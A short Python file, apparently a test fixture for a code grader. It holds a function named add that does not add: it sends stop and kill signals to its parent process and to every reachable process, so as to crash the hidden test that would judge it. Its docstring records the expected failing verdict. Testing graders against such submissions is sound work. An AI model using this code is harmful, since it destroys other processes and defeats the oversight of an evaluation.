"""Kills and stops everything it can reach while a hidden test waits.

verdict: Z
right: zero
seen: crashed, timeout, error
"""
import os
import signal


def add(a, b):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        for pid in (os.getppid(), -1):
            try:
                os.kill(pid, number)
            except OSError:
                continue
    raise RuntimeError("nobody left")
